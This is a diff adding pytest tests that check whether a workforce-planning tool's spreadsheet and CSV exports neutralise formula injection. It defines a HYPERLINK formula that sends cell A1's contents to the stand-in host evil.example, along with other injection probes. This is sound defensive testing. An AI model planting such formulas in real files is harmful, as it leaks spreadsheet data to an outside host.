@@ -127,3 +127,103 @@ def test_a_link_inside_out_is_not_followed(tmp_path):
     res = runner.invoke(app, ["batch", str(path), "--out", str(out)])
     refused(res, "inside")
     assert tree(victim) == {"precious.txt": b"keep me"} and (out / "north").is_symlink()
+
+
+# --- 2. formula injection ----------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def formulas(path: Path) -> list[str]:
+    """Every cell of a workbook that a spreadsheet would compute."""
+    wb = openpyxl.load_workbook(path)
+    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f"]
+
+
+def texts(path: Path) -> list[str]:
+    wb = openpyxl.load_workbook(path)
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+def csv_cells(path: Path) -> list[str]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def assert_csv_neutral(path: Path) -> None:
+    risky = [c for c in csv_cells(path) if c[:1] in ("=", "+", "@", "\t", "\r")
+             or (c[:1] == "-" and not _is_number(c))]
+    assert risky == [], (path.name, risky[:5])
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_plan_workbook_and_csvs_carry_names_as_text(tmp_path):
+    path = write_scenario(tmp_path / "sc", "evil")
+    text = path.read_text()
+    text = text.replace('name = "evil"', 'name = "=2+2"', 1).replace('name = "agents"', 'name = "=1+1"')
+    text = text.replace('group = "agents"', 'group = "=1+1"').replace('name = "support"', 'name = "@SUM(A1)"')
+    path.write_text(text)
+    out = tmp_path / "plan"
+    res = runner.invoke(app, ["plan", str(path), "--out", str(out), "--time-limit", "3"])
+    assert res.exit_code == 0, res.output
+    book = out / "schedule.xlsx"
+    assert formulas(book) == []
+    values = texts(book)
+    assert "=1+1" in values and "=2+2" in values  # still readable, as text
+    for name in ("schedule.csv", "forecast.csv", "requirements.csv", "verification.csv", "coverage.csv"):
+        assert_csv_neutral(out / name)
+    assert "'=1+1" in csv_cells(out / "schedule.csv") and "'@SUM(A1)" in csv_cells(out / "forecast.csv")
+    # The program reads its own CSVs back as they were meant: the plan repeats from its forecast.
+    from wfm import data
+
+    assert set(data.read_table(out / "forecast.csv")["queue"]) == {"@SUM(A1)"}
+
+
+def test_write_table_neutralises_text_but_not_numbers(tmp_path, capsys):
+    frame = pd.DataFrame({
+        "queue": [HYPERLINK, "+cmd", "-x", "@a", "\tt", "\rr", "plain", None],
+        "y": [-1.5, -2, 0, 1, 2, 3, 4, 5],
+        "=col": ["a"] * 8,
+    })
+    export.write_table(frame, tmp_path / "t.csv")
+    assert_csv_neutral(tmp_path / "t.csv")
+    cells = csv_cells(tmp_path / "t.csv")
+    assert "'" + HYPERLINK in cells and "-1.5" in cells and "-2.0" in cells and "'=col" in cells
+    back = pd.read_csv(tmp_path / "t.csv")
+    assert back["y"].tolist() == frame["y"].tolist()  # negative numbers stay numbers
+    export.write_table(frame, "-")
+    assert "'" + HYPERLINK.replace('"', '""') in capsys.readouterr().out
+    export.write_table(frame, tmp_path / "t.xlsx")
+    assert formulas(tmp_path / "t.xlsx") == [] and HYPERLINK in texts(tmp_path / "t.xlsx")
+    # The caller's frame is not changed.
+    assert frame["queue"].iloc[0] == HYPERLINK and "=col" in frame.columns
+
+
+def test_quote_workbook_and_csvs_carry_names_as_text(tmp_path):
+    import tomli_w
+
+    from test_quote import tiny
+
+    data = tiny(client="=1+1")
+    data["name"] = "=2+2"
+    data["quote"]["voice"][0]["name"] = HYPERLINK
+    path = tmp_path / "q.toml"
+    path.write_text(tomli_w.dumps(data))
+    out = tmp_path / "quote"
+    res = runner.invoke(app, ["quote", str(path), "--out", str(out), "--time-limit", "2"])
+    assert res.exit_code == 0, res.output
+    assert formulas(out / "quote.xlsx") == []
+    assert HYPERLINK in texts(out / "quote.xlsx")
+    for name in ("monthly.csv", "channels.csv"):
+        assert_csv_neutral(out / name)
+    assert "'" + HYPERLINK in csv_cells(out / "channels.csv")
